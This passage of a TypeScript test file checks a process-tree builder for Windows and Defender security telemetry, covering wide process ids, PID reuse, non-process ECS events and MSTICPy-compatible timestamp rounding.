    const ids = ["9007199254740992", "9007199254740993"]; // 2^53 and 2^53 + 1: one double
    const events = (pid: string[], ppid: string[], logon: string[]) =>
      pl.DataFrame({
        EventID: [4688, 4688, 4688, 4688],
        TimeGenerated: ["2024-01-01T00:00:00Z", "2024-01-01T00:00:01Z", "2024-01-01T00:00:02Z", "2024-01-01T00:00:03Z"],
        Computer: ["h", "h", "h", "h"],
        NewProcessName: ["C:\\a.exe", "C:\\a.exe", "C:\\b.exe", "C:\\c.exe"],
        NewProcessId: pid,
        ProcessId: ppid,
        ParentProcessName: ["C:\\r.exe", "C:\\r.exe", "C:\\a.exe", "C:\\a.exe"],
        SubjectLogonId: logon,
      });
    const idColumns = ["NewProcessId", "ProcessId", "SubjectLogonId"];
    const as = (df: pl.DataFrame, dtype: Parameters<pl.Expr["cast"]>[0]) => df.withColumns(...idColumns.map((c) => pl.col(c).cast(dtype)));
    // Each child's parent is the a.exe whose id it names: b.exe under 2^53 + 1, c.exe under 2^53.
    const fits = events([...ids, "20", "21"], ["4", "4", ids[1], ids[0]], ["999", "999", "999", "1000"]);
    const text = buildProcessTree(fits);
    const parentOf = (tree: pl.DataFrame, image: string) => {
      const row = tree.filter(pl.col("NewProcessName").eq(pl.lit(image)));
      return tree.filter(pl.col("proc_key").eq(pl.lit(row.getColumn("parent_key").get(0)))).getColumn("NewProcessId").cast(pl.Utf8).get(0);
    };
    assert.equal(parentOf(text, "C:\\b.exe"), ids[1]);
    assert.equal(parentOf(text, "C:\\c.exe"), ids[0]);
    const decimal = buildProcessTree(as(fits, pl.Decimal(38, 0)));
    assert.ok(decimal.frameEqual(text), `${decimal}\n${text}`);
    // The Int64 tree: the same keys, links, levels and paths; its id columns stay Int64.
    const int64 = buildProcessTree(as(fits, pl.Int64));
    assert.ok(decimal.frameEqual(int64.withColumns(...idColumns.map((c) => pl.col(c).cast(pl.Utf8)))), `${decimal}\n${int64}`);
    assert.equal(ptree.treeToText(decimal), ptree.treeToText(text));
    // Past Int64 (Spark's 128-bit ids): as text, every digit kept.
    const wide = ["18446744073709551617", "18446744073709551618", "99999999999999999999999999999999999999"];
    const past = events([wide[0], wide[1], "20", "21"], ["4", "4", wide[1], wide[0]], ["999", "999", wide[2], "1000"]);
    const wideTree = buildProcessTree(as(past, pl.Decimal(38, 0)));
    assert.ok(wideTree.frameEqual(buildProcessTree(past)), `${wideTree}`);
    assert.equal(parentOf(wideTree, "C:\\b.exe"), wide[1]);
    // A fraction is no id: refused as before.
    for (const column of idColumns) {
      assert.throws(
        () => buildProcessTree(fits.withColumns(pl.col(column).cast(pl.Decimal(38, 2)))),
        (e: Error & { code?: string }) => e.name === "ProcessTreeError" && e.code === "transform/process-column-type" && e.message.includes(`"${column}"`) && e.message.includes("Decimal"),
      );
    }
  });

  it("leaves out ECS events that start something other than a process (Winlogbeat's Sysmon 3 connections)", () => {
    const df = pl.DataFrame({
      "@timestamp": ["2024-03-01T10:00:00Z", "2024-03-01T10:00:05Z", "2024-03-01T10:00:10Z", "2024-03-01T10:00:11Z"],
      "event.category": ['["process"]', '["network"]', '["process"]', null],
      "event.type": ['["start"]', '["start","connection","protocol"]', '["start"]', '["start"]'],
      "host.name": ["ws", "ws", "ws", "ws"],
      "process.pid": [4100, 4100, 4200, 4300],
      "process.entity_id": ["{a-2}", "{a-2}", "{a-3}", "{a-4}"],
      "process.executable": ["C:\\w\\cmd.exe", "C:\\w\\cmd.exe", "C:\\w\\whoami.exe", "C:\\w\\net.exe"],
      "process.parent.pid": [4000, null, 4100, 4100],
      "process.parent.entity_id": ["{a-1}", null, "{a-2}", "{a-2}"],
      "process.parent.executable": ["C:\\w\\explorer.exe", null, "C:\\w\\cmd.exe", "C:\\w\\cmd.exe"],
    });
    const tree = buildProcessTree(df);
    // The connection is no process: it was a root of its own, and whoami's parent (the latest holder of {a-2}).
    assert.deepEqual(col(tree, "process.executable"), ["C:\\w\\explorer.exe", "C:\\w\\cmd.exe", "C:\\w\\whoami.exe", "C:\\w\\net.exe"]);
    assert.deepEqual(col(tree, "Level"), [1, 2, 3, 3]);
  });

  it("builds MDE DeviceProcessEvents trees", () => {
    const df = pl.DataFrame({
      Timestamp: [t("10:00:00"), t("10:00:01")],
      DeviceName: ["d", "d"],
      ActionType: ["ProcessCreated", "ProcessCreated"],
      FileName: ["powershell.exe", "whoami.exe"],
      ProcessId: [500, 501],
      InitiatingProcessId: [400, 500],
      InitiatingProcessFileName: ["explorer.exe", "powershell.exe"],
      ProcessCommandLine: ["powershell", "whoami"],
    });
    const tree = buildProcessTree(df);
    assert.deepEqual(col(tree, "parent_key"), [null, "explorer.exe|400|1970-01-01 00:00:00.000000", "powershell.exe|500|2024-01-01 10:00:00.000000"]);
  });

  it("finds every true parent in generated events with PID reuse across hosts", () => {
    const { df, parentRow } = generate4688(5000, { seed: 7, pidPool: 600 });
    const tree = buildProcessTree(df);
    const src = col<string>(tree, "source_index").map(Number);
    const par = col<string | null>(tree, "parent_index");
    const inferred = col<boolean>(tree, "IsInferred");
    let reused = 0;
    const seen = new Set<string>();
    for (const [h, p] of (df.select("Computer", "NewProcessId").rows() as [string, string][])) {
      if (seen.has(`${h}|${p}`)) reused += 1;
      seen.add(`${h}|${p}`);
    }
    assert.ok(reused > 1000, `PIDs reused ${reused} times`);
    src.forEach((s, i) => {
      if (inferred[i]) return;
      const truth = parentRow[s];
      if (truth < 0) assert.ok(par[i] !== null && Number(par[i]) >= 5000, `row ${s} should have an inferred parent`);
      else assert.equal(Number(par[i]), truth, `row ${s}`);
    });
  });
});

it("key times round to 10 µs as MSTICPy's (pandas' round: a tie to the even step, .000005 → .000000, .000025 → .000020; half up gave .000010, .000030)", () => {
  const rows = [
    ["2024-03-01T10:00:00.000005Z", "0x10", "0x4", "C:\\a.exe", "C:\\p.exe"],
    ["2024-03-01T10:00:00.000015Z", "0x14", "0x10", "C:\\b.exe", "C:\\a.exe"],
    ["2024-03-01T10:00:00.000025Z", "0x18", "0x14", "C:\\c.exe", "C:\\b.exe"],
    ["2024-03-01T10:00:00.123455Z", "0x1c", "0x18", "C:\\d.exe", "C:\\c.exe"],
  ];
  const events = pl.DataFrame({
    TimeGenerated: rows.map((r) => r[0]),
    Computer: rows.map(() => "h"),
    EventID: rows.map(() => 4688),
    NewProcessId: rows.map((r) => r[1]),
    ProcessId: rows.map((r) => r[2]),
    NewProcessName: rows.map((r) => r[3]),
    ParentProcessName: rows.map((r) => r[4]),
    SubjectLogonId: rows.map(() => "0x3e7"),
    TargetLogonId: rows.map(() => "0x0"),
    CommandLine: rows.map(() => "x"),
  });
  const keys = (buildProcessTree(events).getColumn("proc_key").toArray() as string[]).filter((k) => !k.startsWith("c:\\p.exe"));
  // MSTICPy 3.0.2's build_process_tree on the same rows.
  assert.deepEqual(keys.sort(), [
    "c:\\a.exe|0x10|2024-03-01 10:00:00.000000",
    "c:\\b.exe|0x14|2024-03-01 10:00:00.000020",
    "c:\\c.exe|0x18|2024-03-01 10:00:00.000020",
    "c:\\d.exe|0x1c|2024-03-01 10:00:00.123460",
  ]);
});
